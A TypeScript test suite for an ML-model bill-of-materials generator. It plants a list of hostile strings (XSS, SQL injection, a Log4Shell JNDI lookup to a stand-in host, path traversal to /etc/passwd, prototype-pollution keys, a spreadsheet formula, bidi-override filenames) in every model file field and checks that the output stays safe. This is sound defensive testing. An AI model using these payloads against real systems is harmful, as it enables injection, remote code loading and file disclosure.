import { objectAt, objectsAt, textAt } from '@trasluz/bom';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { generateModel } from './generate-model.ts';
import { type Content, filesOf, ggufFile, hasherOf, pointerFile, safetensorsFile } from './tests/builders.ts';
import { writeBom } from './write-bom.ts';

/** Texts that have broken other tools: they stand here wherever a file can say something. */
const TEXTS: readonly string[] = [
  '__proto__',
  'constructor',
  'toString',
  '\u0000\u0007\u001b[31m',
  'evil\u202egnp.exe',
  '\ud800',
  '<script>alert(1)</script>',
  '"; DROP TABLE models; --',
  '\u0024{jndi:ldap://x.example/a}',
  '../../../../etc/passwd',
  'javascript:alert(1)',
  '=HYPERLINK("https://x.example")',
  'x'.repeat(100_000),
  '\n---\n# Limitations\n---\n',
];

/** An artefact that says one text in every place that is read. */
function saying(text: string): Readonly<Record<string, Content>> {
  const json = JSON.stringify(text);
  const config = JSON.stringify({
    architectures: [text],
    model_type: text,
    hidden_size: text,
    torch_dtype: text,
    quantization_config: { quant_method: text },
    base_model_name_or_path: text,
    peft_type: text,
    tokenizer_class: text,
    chat_template: text,
    _class_name: text,
    temperature: text,
    [text]: text,
  });
  const fields = [
    'license',
    'license_link',
    'pipeline_tag',
    'tags',
    'datasets',
    'base_model',
    'base_model_relation',
    'language',
    'library_name',
  ];
  const yaml = fields.map((field) => `${field}: ${json}`).join('\n');
  return {
    'README.md': `---\n${yaml}\n---\n# ${text}\n\n${text}\n\n## Limitations\n\n${text}\n\nDeveloped by: ${text}\n`,
    LICENSE: text,
    'config.json': config,
    'adapter_config.json': config,
    'tokenizer_config.json': config,
    'generation_config.json': config,
    'model_index.json': config,
    'model.safetensors': safetensorsFile(
      { [text]: ['F32', [1], 4] },
      { metadata: { 'modelspec.title': text } },
    ),
    'model.safetensors.index.json': JSON.stringify({ weight_map: { [text]: text } }),
    'model.gguf': ggufFile({
      'general.architecture': text,
      'general.name': text,
      'general.license': text,
      'general.file_type': text,
      'general.tags': [text],
    }),
  };
}

describe('an artefact that says something hostile wherever it can', () => {
  it.each(TEXTS.map((text) => [text.slice(0, 40), text]))(
    'still gives a document: %j',
    async (_shown, text) => {
      const contents = saying(text);
      const { bom, issues } = await generateModel({ files: filesOf(contents), hashFile: hasherOf(contents) });
      const written = writeBom(bom);
      expect(written.isWellFormed()).toBe(true);
      expect(written).not.toMatch(/[\u0000-\u0009\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/);
      expect(written).not.toMatch(/\\u(00[01][0-9a-f]|d[89a-f][0-9a-f]{2})/i);
      expect(JSON.parse(written)).toEqual(bom);
      expect(JSON.stringify(issues).length).toBeLessThan(60_000);
      expect(Object.keys(Object.prototype)).toEqual([]);
    },
  );

  it('leaves no property without a text, and no reference that two parts have', async () => {
    for (const text of TEXTS) {
      const { bom } = await generateModel({ files: filesOf(saying(text)) });
      const model = objectAt(objectAt(bom, 'metadata'), 'component');
      const properties = [model, objectAt(model, 'modelCard')].flatMap((it) => objectsAt(it, 'properties'));
      expect(properties.filter(([, it]) => textAt(it, 'value') === undefined)).toEqual([]);
      const refs = writeBom(bom).match(/"bom-ref": "[^"]*"/g) ?? [];
      expect(new Set(refs).size).toBe(refs.length);
    }
  });
});

describe('any artefact', () => {
  it('gives the same document twice, and its issues in order, whatever its files hold', async () => {
    const path = fc.constantFrom(
      'README.md',
      'config.json',
      'adapter_config.json',
      'LICENSE',
      'model.safetensors',
      'model.gguf',
      'a.bin',
      'model.sig',
      'model.safetensors.index.json',
    );
    const content = fc.oneof(
      fc.constantFrom(
        '',
        '{}',
        '[]',
        '---\n---\n',
        '# A\n',
        pointerFile('a'.repeat(64)),
        '{"weight_map":{"a":"b"}}',
      ),
      fc.string({ unit: 'binary', maxLength: 60 }),
    );
    await fc.assert(
      fc.asyncProperty(fc.dictionary(path, content), async (contents) => {
        const input = { files: filesOf(contents), hashFile: hasherOf(contents) };
        const [first, second] = [await generateModel(input), await generateModel(input)];
        expect(writeBom(second.bom)).toBe(writeBom(first.bom));
        expect(second.issues).toEqual(first.issues);
        const files = first.issues.map(({ file }) => file);
        expect(files).toEqual(files.toSorted());
        expect(first.searched.map(({ fact }) => fact)).toEqual(
          first.searched.map(({ fact }) => fact).toSorted(),
        );
      }),
      { numRuns: 60 },
    );
  });
});
